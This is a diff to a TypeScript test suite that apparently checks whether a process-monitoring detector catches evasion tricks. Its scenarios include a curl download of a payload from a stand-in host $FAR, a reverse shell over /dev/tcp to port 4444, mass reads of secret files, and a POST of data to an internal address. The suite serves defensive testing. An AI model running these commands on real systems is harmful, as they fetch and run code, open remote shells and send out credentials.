@@ -1,17 +1,18 @@
 import { evasions, HUNTED, SECRETS } from "./evasion.ts";
 import { prepared, PROGRAM } from "./program.ts";
 
-const DROP = ["T1105", "T1059", "T1059.004", "T1204"] as const;
+/** Only of a shell at a connection: a story is not over because the tool was noticed that begins it. */
+const SHELL = ["T1095", "T1571"] as const;
 
 /** Losing the trail: nobody above, nobody twice, nothing fast, everything as usual, or all of it under a flood. */
 export const TRAILS = evasions([
   {
     id: "evasion.double-fork",
-    title: "a download that is run by an orphan in a session of its own",
-    techniques: DROP,
+    title: "a download that becomes a shell at a connection, run by an orphan in a session of its own",
+    techniques: SHELL,
     needs: ["cc", "curl"],
     prepare: prepared(),
-    script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'id; exec 3<>/dev/tcp/'$FAR'/8443; read -r -t 1 <&3'`,
+    script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'exec $HOOD/x -i >& /dev/tcp/'$FAR'/4444 0>&1'`,
     hides: "dropped-file",
     outcome: "caught",
     because: "ancestors are kept by who forked, whoever has adopted the child",
@@ -25,7 +26,7 @@ export const TRAILS = evasions([
     script: `act; ${PROGRAM} scatter 30 ${SECRETS}; sleep 0.5`,
     hides: "credentials",
     outcome: "caught",
-    because: "",
+    because: "sorts of secrets are counted for whoever had them read as well, and an orphan keeps its ancestors",
   },
   {
     id: "evasion.slow-drip",
@@ -38,13 +39,14 @@ export const TRAILS = evasions([
     script: `act; ${PROGRAM} scatter 2000 ${SECRETS}; sleep 0.5`,
     hides: "credentials",
     outcome: "caught",
-    because: "",
+    because:
+      "what was sought is kept for half an hour; who takes longer over it, or comes again by another service, is not caught",
   },
   {
     id: "evasion.flood-first",
     title:
       "three seconds of opens, removals and forks as fast as they go, and a shell at a connection in the midst of it",
-    techniques: ["T1059", "T1059.004", "T1095", "T1071", "T1571", "T1499", "T1499.001"],
+    techniques: SHELL,
     needs: ["cc", "bash"],
     seconds: 14,
     prepare: prepared(),
@@ -63,15 +65,5 @@ fetch("http://10.20.0.5:8080/",{method:"POST",body:s}).then(r=>r.text()).then(()
     hides: "credentials",
     outcome: "through",
     because: "programs, files, children and addresses are those of every day; what is in the bytes is not looked at",
-  },
-  {
-    id: "evasion.framing",
-    title: "an attacker makes an innocent job run his file, so that the job is the one who is seen",
-    techniques: DROP,
-    needs: ["curl"],
-    script: `curl -s -o $HOOD/plugin http://$FAR/payload; chmod 755 $HOOD/plugin; act; setsid --fork sh -c 'sleep 0.5; $HOOD/plugin -c "id; exec 3<>/dev/tcp/$FAR/8443; read -r -t 1 <&3"'; sleep 2`,
-    hides: "dropped-file",
-    outcome: "caught",
-    because: "",
   },
 ]);
